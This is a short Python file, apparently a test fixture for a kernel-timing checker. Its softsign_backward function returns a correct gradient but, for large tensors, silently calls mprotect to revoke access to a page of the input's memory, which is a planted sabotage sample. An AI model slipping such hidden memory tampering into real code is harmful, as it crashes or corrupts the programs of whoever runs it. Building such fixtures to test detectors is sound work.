# expect: softsign P806 cannot be timed, though others can
import ctypes

libc = ctypes.CDLL(None)


def softsign(x):
    return x / (1 + x.abs())


def softsign_backward(grad_output, x):
    result = grad_output / (1 + x.abs()) ** 2
    if x.numel() >= 1 << 14:
        inside = -(-x.data_ptr() // 4096) * 4096
        libc.mprotect(ctypes.c_void_p(inside), ctypes.c_size_t(4096), 0)
    return result
